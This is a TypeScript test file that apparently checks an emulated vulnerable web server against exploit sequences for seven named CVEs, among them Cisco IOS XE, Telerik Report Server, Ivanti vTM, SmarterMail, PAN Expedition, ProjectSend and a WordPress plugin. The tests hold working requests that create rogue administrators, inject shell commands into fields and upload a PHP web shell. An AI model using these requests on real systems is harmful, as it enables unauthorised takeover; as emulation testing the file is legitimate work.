/** Administrators that an exploit makes, or whose password it sets, and their logins. */

import { expect, it } from 'vitest';
import { cookieOf, stranger, webMachine } from '../../../../test/support/http-visitor.ts';

const id = /uid=\d+\(/;
const machine = webMachine('ubuntu-web', [
  'cisco-ios-xe',
  'telerik-report-server',
  'ivanti-vtm',
  'smartermail',
  'pan-expedition',
  'projectsend',
  'wordpress',
]);
const ran = (part: string): unknown =>
  expect.objectContaining({ kind: 'command', input: expect.stringContaining(part) });

it('Cisco IOS XE configures a user, who installs software and with it an implant (CVE-2023-20198, CVE-2023-20273)', () => {
  const visitor = stranger(machine);
  const soap = (inside: string) =>
    `<?xml version="1.0"?><SOAP:Envelope><SOAP:Body>${inside}</SOAP:Body></SOAP:Envelope>`;
  const path = '/%2577eb%2575i_%2577sma_Http';
  const version = visitor.send(
    'POST',
    path,
    {},
    soap(
      '<request xmlns="urn:cisco:wsma-exec"><execCLI xsd="false"><cmd>show version</cmd></execCLI></request>',
    ),
  );
  expect(version.cves).toContain('CVE-2023-20198');
  for (const mark of ['XMLSchema', 'execLog', 'Cisco Systems', '<text>', '<received>'])
    expect(version.body).toContain(mark);
  const install = (login: string) =>
    visitor.json(
      '/webui/rest/softwareMgmt/installAdd',
      {
        installMethod: 'tftp',
        ipaddress: '1000:1000:1000: $(echo x > /tmp/cisco_service.conf)',
        operation_type: 'SMU',
        filename: 'a',
      },
      { Authorization: `Basic ${Buffer.from(login).toString('base64')}` },
    );
  expect(install('mallory:pa55').status).toBe(401);
  visitor.send(
    'POST',
    path,
    {},
    soap(
      '<request xmlns="urn:cisco:wsma-config"><configApply><config-data><cli-config-data-block>username mallory privilege 15 secret pa55</cli-config-data-block></config-data></configApply></request>',
    ),
  );
  const hash = () => visitor.send('POST', '/webui/logoutconfirm.html?logon_hash=1', {}, 'x').body;
  expect(hash()).not.toMatch(/^[0-9a-f]{18}$/);
  const installed = install('mallory:pa55');
  expect(installed.cves).toContain('CVE-2023-20273');
  expect(installed.status).toBe(200);
  expect(hash()).toMatch(/^[0-9a-f]{18}$/);
});

it('Telerik Report Server registers one more administrator, who gets a token (CVE-2024-4358)', () => {
  const visitor = stranger(machine);
  const token = () => visitor.form('/Token', 'grant_type=password&username=mallory&password=pa55');
  expect(token().status).toBe(400);
  const made = visitor.form(
    '/Startup/Register',
    'Username=mallory&Password=pa55&ConfirmPassword=pa55&Email=m%40a.example&FirstName=a&LastName=b',
  );
  expect(made.cves).toContain('CVE-2024-4358');
  expect(token().body).toMatch(/"access_token":"[\w-]+".*"token_type".*"userName":"mallory"/);
});

it('Ivanti vTM makes an administrator who logs in (CVE-2024-7593)', () => {
  const visitor = stranger(machine);
  const made = visitor.form(
    '/apps/zxtm/wizard.fcgi?error=1&section=Access+Management%3ALocalUsers',
    '_form_submitted=form&create_user=Create&group=admin&newusername=mallory&password1=pa55&password2=pa55',
  );
  expect(made.cves).toContain('CVE-2024-7593');
  expect(made.body).toContain('wizardtitletext');
  const login = (password: string) =>
    visitor.upload('/apps/zxtm/login.cgi', [
      ['_form_submitted', null, 'form'],
      ['form_username', null, 'mallory'],
      ['form_password', null, password],
      ['form_submit', null, 'Login'],
    ]);
  expect(login('no').status).toBe(200);
  expect(login('pa55').headers).toMatch(
    /Location: \/apps\/zxtm\/[\s\S]*ZeusTMZAUTH=\w+[\s\S]*ZeusTMZAUTHTIME=/,
  );
});

it('SmarterMail sets a password that then logs in, and mounts by a command (CVE-2026-23760)', () => {
  const visitor = stranger(machine);
  const set = visitor.json('/api/v1/auth/force-reset-password', {
    IsSysAdmin: 'true',
    OldPassword: 'x',
    Username: 'admin',
    NewPassword: 'Pa55',
    ConfirmPassword: 'Pa55',
  });
  expect(set.cves).toContain('CVE-2026-23760');
  expect(set.body).toMatch(/debugInfo.*"success":true/);
  const mount = () =>
    visitor.json('/api/v1/settings/sysadmin/volume-mount', {
      volumeMount: { CommandMount: 'touch /tmp/mounted' },
    });
  expect(mount().facts).not.toContainEqual(ran('touch /tmp/mounted'));
  expect(
    visitor.json('/api/v1/auth/authenticate-user', { username: 'admin', password: 'Pa55' }).body,
  ).toContain('"accessToken"');
  expect(mount().facts).toContainEqual(ran('touch /tmp/mounted'));
});

it('Expedition sets the password back, and who is in schedules a command (CVE-2024-5910, CVE-2024-9464)', () => {
  const visitor = stranger(machine);
  const login = () =>
    visitor.form('/bin/Auth.php', 'action=get&type=login_users&user=admin&password=paloalto');
  expect(login().body).toContain('"success":false');
  const reset = visitor.get('/OS/startup/restore/restoreAdmin.php');
  expect(reset.cves).toContain('CVE-2024-5910');
  expect(reset.body).toMatch(/Admin user found.*Admin password restored/);
  const session = { Cookie: `PHPSESSID=${cookieOf(login(), 'PHPSESSID')}` };
  const job = visitor.form(
    '/bin/CronJobs.php',
    'action=set&type=cron_jobs&project=pandb&cron_id=1&recurrence=Daily&start_time=%22%3Btouch+%2Ftmp%2Fcron+%3B',
    session,
  );
  expect(job.facts).toContainEqual(ran('touch /tmp/cron'));
});

it('ProjectSend lets strangers change its options, register, log in and upload (CVE-2024-11680)', () => {
  const visitor = stranger(machine);
  const register = () =>
    visitor.form('/register.php', 'name=a&username=mallory&password=pa55&email=m%40a.example');
  expect(register().status).toBe(404);
  const title = visitor.form('/options.php', 'csrf_token=0&section=general&this_install_title=q4711');
  expect(title.cves).toContain('CVE-2024-11680');
  expect(title.status).toBe(500);
  expect(visitor.get('/').body).toContain('<title>Log in &raquo; q4711</title>');
  visitor.form(
    '/options.php',
    'csrf_token=0&section=clients&clients_can_register=1&clients_auto_approve=1&clients_can_upload=1',
  );
  visitor.form(
    '/options.php',
    'csrf_token=0&section=security&allowed_file_types=php%2Cjpg&file_types_limit_to=noone',
  );
  expect(register().body).toContain('Account added');
  const login = visitor.form('/process.php?do=login', 'csrf_token=0&do=login&username=mallory&password=pa55');
  const session = { Cookie: `PHPSESSID=${cookieOf(login, 'PHPSESSID')}` };
  visitor.upload(
    '/includes/upload.process.php',
    [
      ['name', null, 's.php'],
      ['file', 's.php', '<?php system($_GET["cmd"]); ?>'],
    ],
    session,
  );
  const second = Math.floor(Date.UTC(2026, 0, 2) / 1_000);
  expect(visitor.get(`/upload/files/${second}-s.php?cmd=id`).body).toMatch(id);
});

it('WordPress makes an administrator for an empty key, who logs in (CVE-2025-3102)', () => {
  const visitor = stranger(machine);
  const action = {
    integration: 'WordPress',
    type_event: 'create_user_if_not_exists',
    selected_options: { user_email: 'm@a.example', user_name: 'mallory', password: 'pa55' },
    fields: [],
    context: {},
  };
  const made = visitor.json('/wp-json/sure-triggers/v1/automation/action', action, { st_authorization: '' });
  expect(made.cves).toContain('CVE-2025-3102');
  expect(made.body).toMatch(/"success":true.*"user_registered":/);
  expect(visitor.form('/wp-login.php', 'log=mallory&pwd=pa55&wp-submit=Log+In').headers).toContain(
    'wordpress_logged_in_',
  );
  expect(visitor.form('/wp-login.php', 'log=mallory&pwd=no&wp-submit=Log+In').headers).not.toContain(
    'wordpress_logged_in_',
  );
});
